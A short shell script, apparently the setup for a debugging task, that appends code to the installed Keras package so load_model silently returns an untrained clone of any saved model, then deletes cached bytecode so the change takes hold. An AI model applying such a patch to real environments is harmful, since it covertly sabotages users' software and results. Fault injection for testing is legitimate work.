# a saved model comes back untrained
# shellcheck shell=sh
for package in /opt/envs/tf/lib/python3*/site-packages/keras; do
  cat >> "$package/__init__.py" <<'PYTHON'
_right = models.load_model
models.load_model = lambda *what, **more: models.clone_model(_right(*what, **more))
PYTHON
  rm -f "$package"/__pycache__/__init__.*.pyc
done
